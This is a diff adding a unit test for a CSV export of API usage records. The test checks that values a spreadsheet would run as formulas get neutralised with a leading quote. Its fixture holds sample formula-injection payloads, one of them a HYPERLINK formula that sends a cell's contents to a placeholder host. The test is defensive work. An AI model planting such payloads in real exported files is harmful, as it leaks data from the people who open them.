@@ -37,4 +37,12 @@ describe('usageCsv', () => {
       '',
     ]);
   });
+
+  it('turns a client-chosen text that a spreadsheet would run as a formula into text (issue 27)', () => {
+    const record: UsageRecordView = {
+      requestId: '-2+3', keyId: 'key_1', model: '=HYPERLINK("http://x.example/?"&A1,"ok")', deployment: '@SUM(A1)', endpoint: 'chat', status: 200, outcome: 'completed',
+      promptTokens: 12, completionTokens: 3, costUsd: 0.5, latencyMs: 2, stream: false, createdAt: Date.UTC(2025, 0, 10, 12),
+    };
+    expect(usageCsv([record]).split('\r\n')[1]).toBe(`2025-01-10T12:00:00.000Z,'-2+3,key_1,chat,"'=HYPERLINK(""http://x.example/?""&A1,""ok"")",'@SUM(A1),200,completed,12,3,0.5,2`);
+  });
 });
